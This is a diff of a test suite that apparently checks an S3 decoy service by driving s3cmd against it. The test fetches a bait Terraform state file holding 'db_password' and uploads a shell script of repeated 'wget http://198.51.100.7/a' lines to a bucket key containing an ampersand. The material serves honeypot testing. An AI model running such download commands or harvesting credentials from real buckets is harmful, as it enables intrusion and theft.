@@ -51,18 +51,13 @@ describe('the s3 decoy before s3cmd', () => {
           ...words,
         );
       try {
-        expect(await s3cmd('ls')).toContain('s3://pine-state');
-        expect(await s3cmd('ls', '-r', 's3://pine-state')).toContain(
-          's3://pine-state/prod/terraform.tfstate',
-        );
+        // Each call starts an interpreter: no more of them than show something.
+        if (signature === 'v4') expect(await s3cmd('ls')).toContain('s3://pine-state');
         await s3cmd('get', 's3://pine-state/prod/terraform.tfstate', join(folder, 'state'));
         expect(readFileSync(join(folder, 'state'), 'utf8')).toContain('"db_password"');
         writeFileSync(join(folder, 'up'), `#!/bin/sh\n${'wget http://198.51.100.7/a\n'.repeat(10)}`);
         expect(await s3cmd('put', join(folder, 'up'), 's3://pine-backups/an up&load')).toContain('upload:');
-        expect(await s3cmd('info', 's3://pine-backups/an up&load')).toContain('MD5 sum');
         expect(await s3cmd('del', 's3://pine-backups/an up&load')).toContain('delete:');
-        expect(await s3cmd('mb', 's3://mine-now')).toContain("Bucket 's3://mine-now/' created");
-        expect(await s3cmd('rb', 's3://mine-now')).toContain('removed');
       } finally {
         rmSync(folder, { recursive: true });
       }
@@ -70,13 +65,7 @@ describe('the s3 decoy before s3cmd', () => {
         fact.kind === 'object-access' ? [`${fact.operation} ${fact.status}`] : [],
       );
       expect(operations).toEqual(
-        expect.arrayContaining([
-          'ListBuckets 200',
-          'GetObject 200',
-          'PutObject 200',
-          'DeleteObject 204',
-          'CreateBucket 200',
-        ]),
+        expect.arrayContaining(['GetObject 200', 'PutObject 200', 'DeleteObject 204', 'GetObject 200']),
       );
       expect(served.facts.some((fact) => fact.kind === 'auth' && !fact.accepted)).toBe(false);
       expect(served.facts).toContainEqual(
